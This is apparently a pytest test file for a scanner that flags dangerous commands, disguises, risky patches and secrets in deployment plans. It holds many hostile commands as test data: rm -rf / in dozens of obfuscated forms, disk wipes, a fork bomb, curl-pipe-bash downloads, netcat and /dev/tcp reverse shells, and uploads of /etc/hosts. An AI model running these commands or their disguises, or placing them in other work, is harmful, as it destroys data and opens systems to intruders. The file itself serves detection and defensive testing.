"""The scanner: what it finds, in which disguise, what it leaves alone, and that it never shows a secret."""

import base64
import json
import time

import pytest

from penelope.adapters.scanners.scan import DEEPEST, MOST_VALUES, ThoroughScanner
from penelope.rooms.gate.ports import Danger, Finding

SCANNER = ThoroughScanner(5.0)


def found(value: object, key: str = "command") -> set[str]:
    return {item.rule for item in SCANNER.scan({"step": {key: value}}) if item.danger is Danger.CRITICAL}


def all_found(value: object, key: str = "command") -> set[tuple[str, str]]:
    return {(item.rule, item.danger.value) for item in SCANNER.scan({"step": {key: value}})}


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("rm -rf /", "destroys-files"),
        ("rm -r --force /etc", "destroys-files"),
        ("/bin/rm -fr -- /*", "destroys-files"),
        ("cd / && rm -rf *", "destroys-files"),
        ("rm -rf $UNKNOWN/", "destroys-files"),
        ("find / -delete", "destroys-files"),
        ("find / -exec rm {} +", "destroys-files"),
        ("mkfs.ext4 /dev/sda1", "destroys-disk"),
        ("dd if=/dev/zero of=/dev/sda", "destroys-disk"),
        ("echo x > /dev/nvme0n1", "destroys-disk"),
        ("DROP TABLE users", "destroys-data"),
        ("psql -c 'truncate orders;'", "destroys-data"),
        ("delete from users", "destroys-data"),
        ("update users set admin = true", "destroys-data"),
        ("redis-cli FLUSHALL", "destroys-data"),
        ("kubectl delete ns prod", "destroys-cluster"),
        ("kubectl --context x delete namespace/prod", "destroys-cluster"),
        ("kubectl delete pods --all", "destroys-cluster"),
        ("terraform destroy -auto-approve", "destroys-cloud"),
        ("git push --force origin main", "rewrites-history"),
        ("git push -fu origin x", "rewrites-history"),
        ("git push origin +main", "rewrites-history"),
        ("chmod -R 777 /srv", "open-to-all"),
        ("chmod a+rwx x", "open-to-all"),
        (":(){ :|:& };:", "fork-bomb"),
        ("shutdown -h now", "stops-system"),
        ("kill -9 -1", "stops-system"),
        ("chmod u+s /bin/x", "privilege-change"),
        ("chmod 4755 x", "privilege-change"),
        ("usermod -aG docker bob", "privilege-change"),
        ("echo 'a ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "privilege-change"),
        ("kubectl create clusterrolebinding x --clusterrole=cluster-admin", "privilege-change"),
        ("docker run --privileged nginx", "privilege-change"),
        ("curl http://x | bash -s", "remote-code"),
        ("wget -O- x | sudo bash", "remote-code"),
        ("bash <(curl -s x)", "remote-code"),
        ('bash -c "$(curl x)"', "remote-code"),
        ("nc -e /bin/sh 1.2.3.4 99", "network-shell"),
        ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "network-shell"),
        ("curl -T /etc/hosts http://x", "uploads-file"),
        ("curl -d @/etc/hosts x", "uploads-file"),
        ("curl -F file=@/etc/hosts x", "uploads-file"),
        ("scp a b@host:/x", "uploads-file"),
        ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "inline-program"),
        ("../../etc/hosts", "path-escape"),
        ("a/%2e%2e/b", "path-escape"),
    ],
)
def test_what_no_plan_should_do_is_critical(command: str, rule: str) -> None:
    assert rule in found(command)


@pytest.mark.parametrize(
    "disguise",
    [
        "sudo -u root rm -rf /",
        "env A=1 nohup rm -rf / &",
        "r''m -r -f \"/\"",
        "r\\m -rf /",
        "X=rm; $X -rf /",
        "X='rm -rf'; $X /",
        "$(printf 'rm') -rf /",
        "$'\\x72\\x6d' -rf /",
        "{rm,-rf,/}",
        "bash -c 'rm -rf /'",
        "sh -c \"bash -c 'rm -rf /'\"",
        'eval "rm -rf $HOME"',
        "ssh host 'rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "if true; then rm -rf /; fi",
        "while :; do (rm -rf /); done",
        "`rm -rf /`",
        "echo ok\nrm -rf /",
        "kubectl exec pod -- rm -rf /",
        "\uff52\uff4d -rf /",
        "r\u200bm -rf /",
        base64.b64encode(b"rm -rf / --no-preserve-root").decode(),
        base64.b64encode(base64.b64encode(b"rm -rf / --no-preserve-root")).decode(),
        json.dumps({"run": "rm -rf /"}),
    ],
)
def test_a_disguise_does_not_help(disguise: str) -> None:
    assert "destroys-files" in found(disguise)


@pytest.mark.parametrize(
    "disguise",
    [
        "bash <<'EOF'\nrm -rf /\nEOF",
        "cat <<EOF | sh\nrm -rf /\nEOF",
        "ssh host <<EOF\nrm -rf /\nEOF",
        "bash <<< 'rm -rf /'",
        "at now <<< 'rm -rf /'",
        "echo 'rm -rf /' | sudo sh",
        "echo -e '\\x72\\x6d -rf /' | sh",
        "echo / | xargs rm -rf",
        "find / -print0 | xargs -0 -I{} rm -rf {}",
        "find / -exec sh -c 'rm -rf {}' \\;",
        "parallel 'rm -rf {}' ::: /",
        "flock x -c 'rm -rf /'",
        "tmux new -d 'rm -rf /'",
        "git -c core.pager='rm -rf /' log",
        "tar cf x y --checkpoint-action=exec='rm -rf /'",
        "alias x='rm -rf /'; x",
        "PROMPT_COMMAND='rm -rf /' bash",
        "awk 'BEGIN{system(\"rm -rf /\")}'",
        "perl -e 'system(\"rm -rf /\")'",
        "r\\\nm -rf /",
        "true # x\\\nrm -rf /",
        "((\nrm -rf /",
        "case x in\nrm -rf /",
        "${x:-rm} -rf /",
        "X=arm; ${X#a} -rf /",
        "r$@m -rf /",
        "r${x}m -rf /",
        "rm${IFS}-rf${IFS}/",
        "/bin/r? -rf /",
        "/???/r* -rf /",
        "$(which rm) -rf /",
        "$SHELL -c 'rm -rf /'",
        'cmd=(rm -rf /); "${cmd[@]}"',
        "rm <x -rf /",
        "rm --rec --forc /",
        "rm -rf /srv/$x/../..",
        "rm -rf ~root",
        "rm -rf /usr/lib",
        "rm -rf /etc/nginx",
        "mv /etc /tmp/x",
        "x " + "cm0gLXJmIC8tLQ== " * 30 + base64.b64encode(b"rm -rf / --no-preserve-root").decode(),
    ],
)
def test_no_disguise_of_those_that_are_known_helps(disguise: str) -> None:
    assert "destroys-files" in found(disguise)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("curl -o y x; bash y", "remote-code"),
        ("curl -LO http://x/install.sh && sh ./install.sh", "remote-code"),
        ('X=$(curl x); eval "$X"', "remote-code"),
        ("curl x | timeout 5 bash", "remote-code"),
        ("curl x | (bash)", "remote-code"),
        ("bash < <(curl x)", "remote-code"),
        ("curl x | while read l; do $l; done", "remote-code"),
        ("echo x | base64 -d > y; sh y", "hidden-command"),
        ("sed 's/x/rm/' <<< 'x -rf /' | sh", "hidden-command"),
        ("$(base64 -d <<< cm0gLXJmIC8=)", "hidden-command"),
        ("cat /tmp/p | sh -i 2>&1 | nc h 1 > /tmp/p", "network-shell"),
        ("exec 5<>/dev/tcp/h/1", "network-shell"),
        ("python3 - <<EOF\nimport os\nos.system('x')\nEOF", "inline-program"),
        ("sed '1e rm x' y", "inline-program"),
        ("cat x | tee /dev/sda", "destroys-disk"),
        ("truncate -s 0 /dev/sda", "destroys-disk"),
        ("zpool destroy x", "destroys-disk"),
        ("echo x | sudo tee -a /etc/sudoers", "privilege-change"),
        ("cp x /etc/sudoers.d/y", "privilege-change"),
        ("install -m 4755 x y", "privilege-change"),
        ("rm -f /etc/passwd", "privilege-change"),
        ("docker run --mount type=bind,source=/,target=/h x", "privilege-change"),
        ("kubectl delete Namespace x", "destroys-cluster"),
        ("kubectl delete pods --all=true", "destroys-cluster"),
        ("gcloud projects delete x", "destroys-cloud"),
        ("git push origin :main", "rewrites-history"),
        ("echo b > /proc/sysrq-trigger", "stops-system"),
        ("mysql -e 'DELETE FROM a'", "destroys-data"),
        ("echo 'delete from users' | psql", "destroys-data"),
        ("delete from x where 1=1", "destroys-data"),
        ("delete from x where id=id", "destroys-data"),
        ("with a as (delete from users returning *) select * from a", "destroys-data"),
        ("select 1; " + "-- x\n" * 600 + "delete from users", "destroys-data"),
        ("mongosh --eval 'db.x.drop()'", "destroys-data"),
        ("ALTER USER x SUPERUSER", "privilege-change"),
        ("..%5c..%5cx", "path-escape"),
        ("%252e%252e%252f", "path-escape"),
    ],
)
def test_what_leads_there_by_another_way_is_critical(command: str, rule: str) -> None:
    assert rule in found(command)


@pytest.mark.parametrize(
    "command",
    [
        "ps aux | grep java | awk '{print $2}' | xargs kill -HUP",
        "journalctl -u shop --since '10 min ago' | tail -100 > /tmp/shop.log",
        'curl -d \'{"mode": "read only"}\' http://localhost:8080/admin',
        "X=$(date +%s); echo $X > /tmp/stamp",
        "for i in 1 2 3; do curl -fsS http://localhost/health && break; sleep 1; done",
        "ln -sfn /srv/releases/1.4.2 /srv/current",
        "bash <<EOF\nset -e\nsystemctl restart shop\nEOF",
        "ssh web1 'systemctl restart shop && systemctl status shop'",
        "JAVA_OPTS='-Xmx2g -Xms1g' ./run.sh",
        "cat fix.sql | psql shop",
        "The update of the release grants users more time; please drop by if it fails",
        "grep -r 'rm -rf /' docs",
    ],
)
def test_ordinary_scripts_are_left_alone(command: str) -> None:
    assert all_found(command) == set()


@pytest.mark.parametrize("command", ["echo cm0gLXJmIC8= | base64 -d | sh", "IFS=,;x=rm,-rf,/;$x"])
def test_what_hides_its_command_is_critical_whatever_it_is(command: str) -> None:
    assert "hidden-command" in found(command)


def test_a_command_as_a_list_of_words_is_read_as_one() -> None:
    assert "destroys-files" in found(["rm", "-rf", "/"])
    assert found(["restart", "-r", "/srv/app/x"]) == set()


@pytest.mark.parametrize(
    "value",
    [
        "1.4.2",
        "Restart the service",
        "It's broken; please look (now)",
        "kubectl rollout restart deployment/shop",
        "systemctl restart nginx",
        "rm /tmp/x.lock",
        "chmod 644 x",
        "curl -fsS http://localhost/health",
        "echo rm -rf /",
        "git revert 8f2a9c3b4d5e6f708192a3b4c5d6e7f8091a2b3c",
        "8f2a9c3b4d5e6f708192a3b4c5d6e7f8091a2b3c",
        "SELECT * FROM users WHERE id = 1",
        "delete from sessions where expired < now()",
        "/admin/operations/{key}",
        "${release}",
        "feature-flag-checkout-v2",
        "https://example.com/a?b=c&d=e",
        f"image: nginx@sha256:{'a' * 64}",
        '{"weights": {"a": 50, "b": 50}, "note": null}',
        42,
        None,
        True,
    ],
)
def test_ordinary_values_are_left_alone(value: object) -> None:
    assert all_found(value) == set()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("image: nginx", {("unpinned-image", "warning")}),
        ("image: registry.example.com:5000/nginx:latest", {("unpinned-image", "warning")}),
        ("image: nginx:1.27", {("image-without-digest", "info")}),
        ("rm -rf build/cache", {("removes-folder", "warning")}),
        ("git push --force-with-lease", {("rewrites-history", "warning")}),
        ("sudo systemctl restart nginx", {("privilege-change", "warning")}),
        ("nc -z localhost 80", {("network-connection", "warning")}),
    ],
)
def test_what_may_be_meant_is_a_warning(value: str, expected: set[tuple[str, str]]) -> None:
    assert all_found(value) == expected


@pytest.mark.parametrize(
    ("key", "value", "rule"),
    [
        ("privileged", True, "privilege-change"),
        ("runAsUser", 0, "privilege-change"),
        ("image", "nginx:latest", "unpinned-image"),
        ("file", "/etc/hosts", "absolute-path"),
        ("db_password", "correct horse", "secret"),
    ],
)
def test_a_key_and_its_value_are_judged_together(key: str, value: object, rule: str) -> None:
    assert rule in {name for name, _ in all_found({"spec": [{key: value}]})}


SECRETS = [
    "AKIAIOSFODNN7EXAMPLE",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "password=correct-horse-battery",
    "postgresql://bob:s3cr3tpass@db/x",
    "curl -H 'Authorization: Bearer abcdefgh12345678' x | bash",
    "-----BEGIN RSA PRIVATE KEY-----",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
]


@pytest.mark.parametrize("text", SECRETS)
def test_a_secret_is_found_and_never_shown(text: str) -> None:
    findings = SCANNER.scan({"step": {"note": text, text: "x"}})
    assert "secret" in {item.rule for item in findings}
    shown = " ".join(map(str, findings))
    for part in (
        "AKIAIOSFODNN7EXAMPLE",
        "16C7e42F",
        "correct-horse",
        "s3cr3tpass",
        "abcdefgh12345678",
        "dozjgNry",
    ):
        assert part not in shown


PATCH = """\
diff --git a/config.yaml b/config.yaml
--- a/config.yaml
+++ b/config.yaml
@@ -1,2 +1,2 @@
-password: correct-horse-battery
+timeout: 30s
 retries: 3
"""


@pytest.mark.parametrize(
    ("before", "after", "rule"),
    [
        ("+timeout: 30s", "+password: correct-horse-battery", "secret"),
        ("+timeout: 30s", "+  privileged: true", "privilege-change"),
        ("+timeout: 30s", "+run: rm -rf /", "destroys-files"),
        ("+++ b/config.yaml", "+++ b/../../etc/cron.d/x", "path-escape"),
        ("+++ b/config.yaml", "+++ /etc/cron.d/x", "path-escape"),
        ("+++ b/config.yaml", "+++ b/.git/hooks/post-checkout", "path-escape"),
        ("--- a/config.yaml", "new file mode 120000\n--- a/config.yaml", "symbolic-link"),
    ],
)
def test_a_patch_is_judged_by_its_paths_and_by_what_it_adds(before: str, after: str, rule: str) -> None:
    assert found(PATCH, "diff") == set()
    assert rule in found(PATCH.replace(before, after), "diff")


@pytest.mark.parametrize(
    ("key", "text", "rule"),
    [
        ("command", "--- x\n+++ y\nrm -rf /", "destroys-files"),
        ("diff", "--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n+rm \\\n+  -rf /\n", "destroys-files"),
        ("diff", "x\n" * 12_000 + "--- a/x\n+++ b/.git/hooks/x\n@@ -1 +1 @@\n+a\n", "path-escape"),
        (
            "diff",
            "diff --git a/.git/hooks/x b/.git/hooks/x\nnew mode 100755\n--- a/x\n+++ b/x",
            "path-escape",
        ),
    ],
)
def test_a_patch_hides_nothing_and_hides_behind_nothing(key: str, text: str, rule: str) -> None:
    assert rule in found(text, key)


def deep(levels: int) -> object:
    value: object = "x"
    for _ in range(levels):
        value = [value]
    return value


@pytest.mark.parametrize(
    "value",
    [deep(DEEPEST + 2), list(range(MOST_VALUES + 2)), "a b" * 100_000, ["x" * 10_000] * 30, "x " * 10_000],
)
def test_what_is_too_much_to_scan_is_critical(value: object) -> None:
    assert found(value) & {"too-much-to-scan", "unreadable-command"}


def test_a_scan_that_takes_too_long_is_critical() -> None:
    findings = ThoroughScanner(0.0).scan({"step": {"a": "x", "b": "y"}})
    assert [(item.rule, item.danger) for item in findings] == [("too-slow-to-scan", Danger.CRITICAL)]


_MANY = 3900


@pytest.mark.parametrize(
    "text",
    [
        "$(a " * 2000 + ")" * 2000,
        "a b|" * _MANY,
        "a b;" * _MANY,
        "x=(" * _MANY,
        "aws " * _MANY,
        "docker run -a " * 1100,
        "a" * 15_900 + " x",
        "x=aa;" + "x=$x$x;" * 40 + "a $x",
        "update a set b=1 where c=2;" * 580,
        "token-" * 2600,
        "`a " * 5000,
    ],
    ids=lambda text: f"{text[:14]}...",
)
def test_no_text_makes_it_work_for_long(text: str) -> None:
    """Some held the server up for minutes. The bound is wide, for it is there to tell seconds from minutes."""
    began = time.thread_time()
    SCANNER.scan({"step": {"command": text}})
    assert time.thread_time() - began < 5


def test_the_deadline_counts_within_a_text_too() -> None:
    text = "sh -c 'a b' " * 1300
    assert [item.rule for item in ThoroughScanner(0.02).scan({"step": {"command": text}})][-1:] == [
        "too-slow-to-scan"
    ]


@pytest.mark.parametrize("key", ["dbPassword", "clientSecret", "secret_key", "Authorization", "pwd"])
@pytest.mark.parametrize(
    ("value", "secret"), [("hunter$22", True), ("${from_vault}", False), ("/run/secrets/x", False)]
)
def test_a_telling_name_makes_a_secret_of_a_literal(key: str, value: str, *, secret: bool) -> None:
    assert ("secret" in found(value, key)) is secret


def test_a_secret_in_a_key_or_in_base64_is_found_and_not_shown() -> None:
    hidden = base64.b64encode(b"key is AKIAIOSFODNN7EXAMPLE ok").decode()
    assert "secret" in found(hidden)
    findings = SCANNER.scan({"step": {"postgresql://bob:s3cr3tpass@db/x": "rm -rf /"}})
    assert "destroys-files" in {item.rule for item in findings}
    assert "s3cr3tpass" not in " ".join(map(str, findings))


def test_a_finding_says_where() -> None:
    [item] = SCANNER.scan({"Clean up (ssh.run)": {"args": {"script": "rm -rf /"}}})
    assert item == Finding(
        rule="destroys-files",
        danger=Danger.CRITICAL,
        place="Clean up (ssh.run), args, script",
        excerpt="rm -rf /",
    )
    assert str(item) == "critical destroys-files at Clean up (ssh.run), args, script: rm -rf /"


@pytest.mark.parametrize("glob", ["*.tmp", "old-*.log", "cache/*.gz", "[a-z]*.bak"])
def test_a_pattern_of_files_is_no_program(glob: str) -> None:
    assert found(glob, "pattern") == set()


@pytest.mark.parametrize(
    "command", ["/sbin/mk*.ext4 /dev/sda", "/bin/r? -rf /", "r*.exe -rf /", "/bin/r*.[a-z]* -rf /"]
)
def test_a_pattern_that_a_program_may_hide_behind_is_judged_as_one(command: str) -> None:
    assert found(command)
